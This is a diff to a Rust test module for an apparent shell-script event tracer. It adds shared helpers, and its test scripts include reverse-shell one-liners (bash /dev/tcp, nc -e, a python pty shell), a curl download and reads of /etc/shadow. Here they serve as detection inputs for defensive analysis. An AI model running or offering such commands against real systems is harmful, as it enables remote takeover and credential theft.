@@ -1581,6 +1581,41 @@ mod tests {
             .collect()
     }
 
+    /// A script's events from `sh`, pids counted from `first + 1`, each
+    /// also as `kind comm<parent pid/ppid` followed by `detail(event)`.
+    fn traced(
+        script: &str,
+        sh: &Shell<'_>,
+        first: u32,
+        detail: impl Fn(&JsonEvent) -> String,
+    ) -> (Vec<JsonEvent>, Vec<String>) {
+        let mut next = first;
+        let evs = events(script, sh, || {
+            next += 1;
+            next
+        });
+        let got = evs
+            .iter()
+            .map(|e| {
+                format!(
+                    "{} {}<{} {}/{}{}",
+                    e.kind.as_deref().unwrap(),
+                    e.comm.as_deref().unwrap(),
+                    e.parent_comm.as_deref().unwrap(),
+                    e.pid.unwrap(),
+                    e.ppid.unwrap(),
+                    detail(e),
+                )
+            })
+            .collect();
+        (evs, got)
+    }
+
+    /// Where an event went: its file or its peer's address.
+    fn target(e: &JsonEvent) -> String {
+        e.path.clone().or(e.remote_ip.clone()).unwrap_or_default()
+    }
+
     #[test]
     fn every_line_and_list_member_is_a_command_and_builtins_start_nothing() {
         let script = "echo '{\"scripts\": {\"x\": \"/bin/sh\"}}' >package.json\nnpm -C . run x";
@@ -1764,30 +1799,15 @@ mod tests {
             home: "/var/www",
             exes: None,
         };
-        let mut next = 1000;
-        let evs = events(
+        let (evs, got) = traced(
             "echo x >~/.x; curl -s http://203.0.113.9:8080/a >/tmp/a 2>/dev/null\nsudo sh -c 'cat /etc/shadow'",
             &sh,
-            || {
-                next += 1;
-                next
+            1000,
+            |e| {
+                let argv = e.argv.as_ref().map(|a| a.join(" ")).unwrap_or_default();
+                format!(" {}{argv}", target(e))
             },
         );
-        let got: Vec<String> = evs
-            .iter()
-            .map(|e| {
-                format!(
-                    "{} {}<{} {}/{} {}{}",
-                    e.kind.as_deref().unwrap(),
-                    e.comm.as_deref().unwrap(),
-                    e.parent_comm.as_deref().unwrap(),
-                    e.pid.unwrap(),
-                    e.ppid.unwrap(),
-                    e.path.clone().or(e.remote_ip.clone()).unwrap_or_default(),
-                    e.argv.as_ref().map(|a| a.join(" ")).unwrap_or_default(),
-                )
-            })
-            .collect();
         assert_eq!(
             got,
             [
@@ -1813,28 +1833,12 @@ mod tests {
         // A wrapper's arguments are its command's: one connect, by the
         // process that makes it; `exec` and bash's one-command `-c` keep
         // the process.
-        let mut next = 2000;
-        let evs = events(
+        let (_, got) = traced(
             "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\nexec /bin/sh -i",
             &sh,
-            || {
-                next += 1;
-                next
-            },
+            2000,
+            |_| String::new(),
         );
-        let got: Vec<String> = evs
-            .iter()
-            .map(|e| {
-                format!(
-                    "{} {}<{} {}/{}",
-                    e.kind.as_deref().unwrap(),
-                    e.comm.as_deref().unwrap(),
-                    e.parent_comm.as_deref().unwrap(),
-                    e.pid.unwrap(),
-                    e.ppid.unwrap(),
-                )
-            })
-            .collect();
         assert_eq!(
             got,
             [
@@ -1966,29 +1970,12 @@ mod tests {
             home: "/home/u",
             exes: None,
         };
-        let mut next = 1000;
-        let evs = events(
+        let (_, got) = traced(
             "nc -e /bin/sh 10.0.0.1 4444\npython3 -c 'import socket,pty;s=socket.socket();s.connect((\"10.0.0.2\",5555));pty.spawn(\"/bin/sh\")'\nfind /etc -exec cat /etc/shadow \\;",
             &sh,
-            || {
-                next += 1;
-                next
-            },
+            1000,
+            |e| format!(" {}", target(e)),
         );
-        let got: Vec<String> = evs
-            .iter()
-            .map(|e| {
-                format!(
-                    "{} {}<{} {}/{} {}",
-                    e.kind.as_deref().unwrap(),
-                    e.comm.as_deref().unwrap(),
-                    e.parent_comm.as_deref().unwrap(),
-                    e.pid.unwrap(),
-                    e.ppid.unwrap(),
-                    e.path.clone().or(e.remote_ip.clone()).unwrap_or_default(),
-                )
-            })
-            .collect();
         assert_eq!(
             got,
             [
